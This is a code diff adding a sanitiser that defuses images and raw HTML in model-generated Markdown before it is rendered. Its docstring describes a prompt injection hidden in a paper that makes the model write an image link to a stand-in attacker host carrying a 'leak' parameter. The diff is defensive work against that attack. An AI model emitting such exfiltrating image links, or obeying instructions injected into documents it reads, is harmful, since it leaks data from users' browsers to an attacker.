@@ -21,6 +21,34 @@ def escape_html(text: str) -> str:
     return _TAG_LIKE.sub("&lt;", text)
 
 
+# ![alt](url "title"), bounded so the pattern stays linear on hostile text.
+_INLINE_IMAGE = re.compile(
+    r"!\[([^\]\n]{0,500})\]\(\s*<?([^()\s<>]{0,2000})>?(?:\s+(?:\"[^\"\n]{0,500}\"|'[^'\n]{0,500}'))?\s*\)"
+)
+
+
+def _image_as_text(match: re.Match[str]) -> str:
+    alt = " ".join(match.group(1).split())
+    url = match.group(2).replace("`", "")
+    shown = f"`{url}`" if url else ""
+    return f"{alt} ({shown})" if alt and shown else (alt or shown)
+
+
+def defuse_model_markdown(text: str) -> str:
+    """Model text as text plus safe formatting: no images, no raw HTML.
+
+    A paper can carry a prompt injection that makes the model write
+    ``![](https://attacker/?leak=...)``: rendered, every visitor's browser would fetch it. An
+    inline image becomes its alt text and its URL in a code span (shown, never fetched or
+    linked); any other image syntax (reference-style ``![alt][ref]``) is escaped so it shows
+    literally; HTML tags are shown as text (``escape_html``). Our own figures are added
+    around the model's text, never through it, so they still show.
+    """
+    text = _INLINE_IMAGE.sub(_image_as_text, text)
+    text = text.replace("![", "!\\[")
+    return escape_html(text)
+
+
 def _escape_inline(text: str) -> str:
     """Metadata on one line: no HTML, no stray Markdown emphasis or link syntax."""
     text = " ".join(text.split())
@@ -83,7 +111,7 @@ def render_stage(result: StageResult | None, lang: Language) -> str:
         return ""
     parts: list[str] = []
     if result.text.strip():
-        parts.append(separate_numbered_parts(escape_html(result.text.strip())))
+        parts.append(separate_numbered_parts(defuse_model_markdown(result.text.strip())))
     for warning in result.warnings:
         parts.append(f"> ⚠️ {escape_html(warning)}")
     if result.error:
